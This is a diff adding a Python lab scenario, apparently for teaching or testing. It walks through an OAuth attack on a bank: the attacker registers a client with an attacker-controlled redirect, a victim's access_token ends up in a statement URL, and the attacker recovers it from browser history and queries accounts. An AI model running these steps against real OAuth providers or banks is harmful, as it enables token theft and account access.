@@ -1,0 +1,40 @@
+"""A statement is opened by an address, and the address stays behind."""
+
+from labs.chromium import BrowserStage
+from labs.stage import Stage, Stuck
+from labs.steps import step
+
+
+@step("attacker")
+def tries_it_with_his_own(stage: Stage) -> None:
+    """Connect an app of the attacker's own to Mallory's account, and show the bank that token in the address."""
+    redirect_uri = f"{stage.here.attacker}/collect"
+    metadata = {"client_name": "Statements", "redirect_uris": [redirect_uri], "token_endpoint_auth_method": "none"}
+    answer = stage.attacker.ask("POST", f"{stage.here.auth}/register", json=metadata | {"scope": "balance:read"})
+    if answer.status_code != 201:
+        raise Stuck("Bank ID registers no app")
+    client_id = answer.json()["client_id"]
+    stage.mallory.go(stage.link(client_id, redirect_uri)).agree()
+    form = {"redirect_uri": redirect_uri, "code_verifier": stage.kept["verifier"]}
+    token = stage.attacker.redeem(stage.collection.newest("code"), client_id=client_id, **form)
+    stage.attacker.ask("GET", f"{stage.here.bank}/accounts?access_token={token}")
+
+
+@step("Alice", by_hand="{balance}/")
+def alice_opens_the_statement(stage: BrowserStage) -> None:
+    """Connect Balance to the bank: sign in as alice, and allow. Then press “Open the statement”."""
+    tab = stage.alice.go(f"{stage.here.balance}/").click("Connect your bank").agree().rest().tab
+    button = tab.get_by_role("button", name="Open the statement")
+    if not button.count():
+        raise Stuck("this Balance opens no statement")
+    with tab.expect_response(lambda answer: "access_token=" in answer.url) as asked:
+        button.click()
+    if asked.value.ok:
+        tab.wait_for_url(f"{stage.here.bank}/**")
+
+
+@step("attacker", asks="the address of the statement with access_token= in it: the browser shows it")
+def reads_the_history(stage: Stage) -> None:
+    """Read the address in the browser's history, and ask the bank with the token in it."""
+    told = stage.leak("history", stage.given or stage.alice.visited("/accounts/alice-current/transactions"))
+    stage.attacker.bank("GET", "/accounts", told["access_token"])
